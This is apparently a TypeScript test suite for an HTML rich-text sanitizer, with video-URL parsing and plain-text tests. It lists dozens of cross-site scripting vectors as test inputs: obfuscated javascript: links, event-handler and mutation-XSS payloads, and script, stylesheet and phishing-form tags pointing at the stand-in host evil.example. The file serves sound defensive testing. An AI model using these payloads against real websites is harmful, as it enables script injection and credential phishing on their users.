import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { plainText, sanitizeRichText } from './rich-text.ts'
import { pastes } from './testing/pastes.ts'
import { videoFromUrl } from './video-url.ts'

const picture = '6f1c2d3e-4a5b-4c6d-8e7f-0a1b2c3d4e5f'

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img data-media="${picture}" src="https://evil.example/x.png" srcset="x" onload="alert(1)" style="x">`,
  '<img data-media="../../secret">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/ok" onclick="alert(1)" onmouseover=alert(1) style="position:fixed">x</a>',
  '<a href="https://example.com" target="_blank" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="y">x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><script>alert(1)</script>-->',
  '<!-- x --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<p title="x">x</p><p/onclick=alert(1)//>x',
  '"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<td background="javascript:alert(1)">x</td>',
  '<ol start="1" type="a" onfocus=alert(1)><li value="x">x</li></ol>',
  '<p>unclosed <strong>x',
  '<a href="/x',
  '<figure data-video="javascript:alert(1)">x</figure>',
  '<figure data-video="youtube:aaaaaaaaaaa&quot; onclick=&quot;alert(1)">x</figure>',
  `<figure data-video="vimeo:1234567" data-poster="../../x" onclick="alert(1)">x</figure>`,
  `<figure data-poster="${picture}">x</figure>`,
  '<',
  '<img',
]

describe('sanitising hostile text', () => {
  test.each(vectors)('removes everything that a browser would run: %s', html => {
    expect(forbiddenMarkup(sanitizeRichText(html))).toEqual([])
  })

  test.each(vectors)('is idempotent: %s', html => {
    const once = sanitizeRichText(html)
    expect(sanitizeRichText(once)).toBe(once)
  })

  test('any combination of the vectors is safe after sanitising once', () => {
    const pieces = fc.constantFrom(...vectors, ...vectors.flatMap(html => html.split(/(?=[<>"' =])/)))
    const text = fc.array(fc.oneof({ weight: 4, arbitrary: pieces }, fc.string({ maxLength: 8 })), { maxLength: 12 })
    fc.assert(
      fc.property(text, parts => {
        const once = sanitizeRichText(parts.join(''))
        expect(forbiddenMarkup(once)).toEqual([])
        expect(sanitizeRichText(once)).toBe(once)
      }),
      { numRuns: 1000 },
    )
  })

  test('keeps the text', () => {
    expect(sanitizeRichText('<p onclick="x()">Water from <span class="y">below</span></p>')).toBe(
      '<p>Water from below</p>',
    )
  })
})

describe('sanitising text of staff', () => {
  test.each([
    '<h2>Water</h2><h3>Wells</h3><h4>Depth</h4><p>From <strong>below</strong>, <em>clean</em>, <u>cold</u>, <s>dear</s>.</p>',
    '<ul><li>One</li><li>Two</li></ul><ol start="3"><li>Three</li></ol>',
    '<blockquote><p>Quoted.</p></blockquote><hr /><pre><code>x</code></pre>',
    '<table><thead><tr><th scope="col" colspan="2">Plot</th></tr></thead><tbody><tr><td rowspan="2">A</td></tr></tbody></table>',
    `<figure><img data-media="${picture}" alt="A well" /><figcaption>A well</figcaption></figure>`,
    '<p><a href="/contact-us">Ask</a> <a href="#plans">Plans</a> <a href="tel:+254700000001">Call</a></p>',
    '<p>Fish &amp; chips, 1 &lt; 2</p>',
  ])('keeps everything: %s', html => {
    expect(sanitizeRichText(html)).toBe(html)
  })

  test('a link to a new window has no opener', () => {
    expect(sanitizeRichText('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener">x</a>',
    )
  })

  test.each([
    [
      'https://www.google.com/url?q=https://example.com/a?b%3Dc&amp;sa=D&amp;source=editors',
      'https://example.com/a?b=c',
    ],
    ['https://www.google.co.ke/url?sa=t&amp;url=https%3A%2F%2Fexample.com%2F', 'https://example.com/'],
    ['https://google.com/url?sa=t&amp;q=homes&amp;url=https%3A%2F%2Fexample.com%2F', 'https://example.com/'],
    [
      'https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fexample.com%2F&amp;data=05',
      'https://example.com/',
    ],
    ['https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2F&amp;h=x', 'https://example.com/'],
    ['https://www.google.com/url?q=javascript:alert(1)', 'https://www.google.com/url?q=javascript:alert(1)'],
    [
      'https://www.google.com.evil.example/url?q=https://example.com',
      'https://www.google.com.evil.example/url?q=https://example.com',
    ],
    ['https://www.google.com/search?q=https://example.com', 'https://www.google.com/search?q=https://example.com'],
  ])('a link behind a redirect leads to its page: %s', (href, target) => {
    expect(sanitizeRichText(`<p><a href="${href}">x</a></p>`)).toBe(`<p><a href="${target}">x</a></p>`)
  })

  test('an unsafe link loses its URL and keeps its text', () => {
    expect(sanitizeRichText('<p><a href="javascript:alert(1)">Ask</a></p>')).toBe('<p><a>Ask</a></p>')
  })

  test('old tags are converted', () => {
    expect(sanitizeRichText('<h1>Water</h1><p><b>a</b> <i>b</i></p>')).toBe(
      '<h2>Water</h2><p><strong>a</strong> <em>b</em></p>',
    )
  })

  test.each(['', ' ', '<p></p>', '<p> </p>\n<p>&nbsp;</p>', '<p><br></p>'])('empty text becomes empty: %j', html => {
    expect(sanitizeRichText(html)).toBe('')
  })
})

describe('sanitising text from another program', () => {
  test.each(Object.entries(pastes))('removes styles, classes and metadata: %s', (_, { html }) => {
    const clean = sanitizeRichText(html)
    expect(forbiddenMarkup(clean)).toEqual([])
    expect(clean).not.toMatch(/mso|Mso|docs-internal|Normal|EN-GB|<o:p>|supportLists/)
    expect(sanitizeRichText(clean)).toBe(clean)
  })

  test('Google Docs: lists stay lists, and normal text does not become bold', () => {
    const clean = sanitizeRichText(pastes['Google Docs'].html)
    expect(clean.match(/<li>/g)).toHaveLength(4)
    expect(clean).not.toMatch(/^<strong>/)
  })
})

describe('a video', () => {
  test.each([
    ['https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=4s', 'youtube:dQw4w9WgXcQ'],
    ['https://www.youtube.com/watch?list=x&v=dQw4w9WgXcQ', 'youtube:dQw4w9WgXcQ'],
    ['youtu.be/dQw4w9WgXcQ?si=x', 'youtube:dQw4w9WgXcQ'],
    ['https://m.youtube.com/shorts/dQw4w9WgXcQ', 'youtube:dQw4w9WgXcQ'],
    ['https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'youtube:dQw4w9WgXcQ'],
    ['https://vimeo.com/123456789', 'vimeo:123456789'],
    ['Watch “A tour” on YouTube https://youtu.be/dQw4w9WgXcQ?si=x', 'youtube:dQw4w9WgXcQ'],
    ['https://youtu.be/dQw4w9WgXcQ\u200b', 'youtube:dQw4w9WgXcQ'],
    ['https://player.vimeo.com/video/123456789?h=x', 'vimeo:123456789'],
    ['https://www.youtube.com/live/dQw4w9WgXcQ?si=abc&t=1', 'youtube:dQw4w9WgXcQ'],
    ['https://youtube.com/shorts/dQw4w9WgXcQ?feature=share', 'youtube:dQw4w9WgXcQ'],
    ['HTTPS://WWW.YouTube.com/watch?app=desktop&v=dQw4w9WgXcQ#t=4', 'youtube:dQw4w9WgXcQ'],
    ['https://music.youtube.com/watch?v=dQw4w9WgXcQ', 'youtube:dQw4w9WgXcQ'],
    ['//www.youtube.com/v/dQw4w9WgXcQ', 'youtube:dQw4w9WgXcQ'],
    [
      'https://www.youtube.com/attribution_link?a=x&u=%2Fwatch%3Fv%3DdQw4w9WgXcQ%26feature%3Dshare',
      'youtube:dQw4w9WgXcQ',
    ],
    ['https://www.google.com/url?q=https://youtu.be/dQw4w9WgXcQ&sa=D', 'youtube:dQw4w9WgXcQ'],
    [
      '<iframe width="560" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=a&amp;start=4" title="x"></iframe>',
      'youtube:dQw4w9WgXcQ',
    ],
    ['https://www.youtube.com/embed/videoseries?list=x', null],
    ['https://www.youtube.com/@company', null],
    ['https://www.youtube.com/watch?v=dQw4w9WgXcQQ', null],
    ['https://vimeo.com/123456789/0a1b2c3d4e', 'vimeo:123456789:0a1b2c3d4e'],
    ['https://vimeo.com/123456789/0a1b2c3d4e?share=copy', 'vimeo:123456789:0a1b2c3d4e'],
    ['https://player.vimeo.com/video/123456789?h=0a1b2c3d4e&app_id=1', 'vimeo:123456789:0a1b2c3d4e'],
    ['https://vimeo.com/channels/staffpicks/123456789', 'vimeo:123456789'],
    ['https://vimeo.com/groups/homes/videos/123456789', 'vimeo:123456789'],
    ['https://vimeo.com/showcase/7654321/video/123456789', 'vimeo:123456789'],
    ['https://vimeo.com/showcase/7654321', null],
    ['https://vimeo.com/manage/videos/123456789/0a1b2c3d4e', 'vimeo:123456789:0a1b2c3d4e'],
    ['https://vimeo.com/company/review/123456789/0a1b2c3d4e', 'vimeo:123456789'],
    ['https://vimeo.com/company', null],
    ['https://vimeo.com.example.com/123456789', null],
    ['https://example.com/watch?v=dQw4w9WgXcQ', null],
    ['https://example.com/https://youtu.be/dQw4w9WgXcQ', null],
    ['javascript:alert(1)', null],
  ])('is found in the URL %s: %s', (address, video) => {
    expect(videoFromUrl(address)).toBe(video)
  })

  test.each([
    '<figure data-video="youtube:dQw4w9WgXcQ"><figcaption>A walk</figcaption></figure>',
    `<figure data-video="${picture}" data-poster="${picture}"><figcaption>A walk</figcaption></figure>`,
  ])('keeps its valid reference: %s', html => {
    expect(sanitizeRichText(html)).toBe(html)
  })

  test('loses an invalid reference', () => {
    expect(sanitizeRichText(`<figure data-video="https://evil.example" data-poster="${picture}">x</figure>`)).toBe(
      '<figure>x</figure>',
    )
  })
})

describe('plain text', () => {
  test.each([
    ['<h2>Water</h2><p>From <strong>be</strong>low.</p>', 'Water From below.'],
    ['<ul><li>One</li><li>Two</li></ul>', 'One Two'],
    ['<table><tbody><tr><td>A</td><td>B</td></tr></tbody></table>', 'A B'],
    ['<p>one<br />two</p>', 'one two'],
    ['<figure><figcaption>A well</figcaption></figure><p>Below</p>', 'A well Below'],
    ['<pre><code>x</code></pre><p>y</p>', 'x y'],
    ['<p>Fish &amp; chips &quot;here&quot;,  1 &lt; 2</p>', 'Fish & chips "here", 1 < 2'],
    ['<p>a&nbsp;b\n c</p>', 'a b c'],
    ['<p>Write &amp;lt; for a less-than sign</p>', 'Write &lt; for a less-than sign'],
    ['', ''],
  ])('is made from %s: %j', (html, words) => {
    expect(plainText(html)).toBe(words)
  })

  test('never contains tags', () => {
    for (const html of vectors) expect(forbiddenMarkup(plainText(html).replace(/[<>]/g, ''))).toEqual([])
  })
})

/**
 * Returns the parts of this HTML that the allowed grammar excludes, tokenised like a browser: every `<` must start an
 * allowed tag, with allowed, quoted attributes and safe URLs.
 */
function forbiddenMarkup(html: string): string[] {
  const element =
    'p|br|h2|h3|h4|strong|em|u|s|a|ul|ol|li|blockquote|hr|figure|figcaption|img|table|thead|tbody|tr|th|td|code|pre'
  const attribute = [
    'href="(?:\\/(?!\\/)[^"<>\\\\]*|#[^"<>]*|(?:https?:\\/\\/|mailto:|tel:)[^"<>]*)"',
    'target="_blank"',
    'rel="noopener"',
    'data-(?:media|poster)="[0-9a-f-]{36}"',
    'data-video="(?:[0-9a-f-]{36}|youtube:[\\w-]{11}|vimeo:\\d+(?::[0-9a-f]+)?)"',
    '(?:alt|colspan|rowspan|scope|start)="[^"<>]*"',
  ].join('|')
  const allowedTag = new RegExp(`</?(?:${element})(?: (?:${attribute}))* ?/?>`, 'g')
  return html.replace(allowedTag, '').match(/[<>][^<>]*/g) ?? []
}
